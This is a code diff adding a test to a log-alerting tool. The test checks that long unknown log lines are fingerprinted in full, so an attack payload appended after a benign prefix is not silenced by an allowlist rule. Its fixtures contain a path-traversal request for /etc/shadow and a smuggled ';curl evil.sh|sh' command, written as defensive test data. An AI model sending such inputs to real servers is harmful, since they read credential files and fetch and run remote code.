@@ -451,6 +451,35 @@ def test_bad_reload_keeps_running(tmp_path):
     assert "bogus_key" in (tmp_path / "daemon.err").read_text()
 
 
+def test_a_long_unknown_line_is_identified_by_all_of_it(tmp_path):
+    """An unknown line's pattern was its first 512 masked characters: a payload after them rode on an
+    allowlist rule, or a de-duplicated alert, made for the same start (an audit: `GET /static/.../x`
+    allowlisted, then the same start with `;curl evil.sh|sh` suppressed). The rest is now fingerprinted,
+    with numbers and hex values as one value; rules made before still match by the first 512."""
+    from lograven.masking import REST, line_pattern
+
+    start = "Jun  9 07:00:00 web01 nginx: GET /" + "static/" * 75
+    benign = _alert(line=start + "index.html?v=1234 200 0x7f3a")
+    again = _alert(line=start + "index.html?v=9876 200 0x55e1")  # numbers and hex differ only
+    evil = _alert(line=start + "..%2f..%2fetc%2fshadow?cmd=;curl+evil.sh|sh 200")
+    short = "Jun  9 07:00:00 web01 nginx: GET /index.html 200"
+    assert REST not in line_pattern(short) and REST in line_pattern(benign.line)
+    assert line_pattern(benign.line) == line_pattern(again.line) != line_pattern(evil.line)
+    assert line_pattern(benign.line)[:400] == line_pattern(evil.line)[:400]
+    assert benign.dedup_key() == again.dedup_key() != evil.dedup_key()
+    al = Allowlist(tmp_path / "allow.json")
+    al.add(rule_from_alert(benign.to_dict()))
+    al._checked = 0
+    assert al.matches(again) and not al.matches(evil)
+    # a rule made before the fingerprint holds the first 512 characters masked: it matches as it did
+    old = tmp_path / "old.json"
+    head = line_pattern(benign.line).split(REST)[0]
+    old.write_text(json.dumps({"version": 1, "rules": [{"id": "r1", "created": "2026-12-01T00:00:00+00:00",
+                                                        "type_id": -1, "pattern": head}]}))  # fmt: skip
+    al_old = Allowlist(old)
+    assert al_old.matches(again) and al_old.matches(evil) and not al_old.matches(_alert(line=short))
+
+
 def test_unknown_message_rules_use_the_masked_line(tmp_path):
     """An unknown message is allowlisted by its line as message types mask it: another address, hash or
     id in the same message is the same pattern (digits alone would leave the hex letters), and rules of
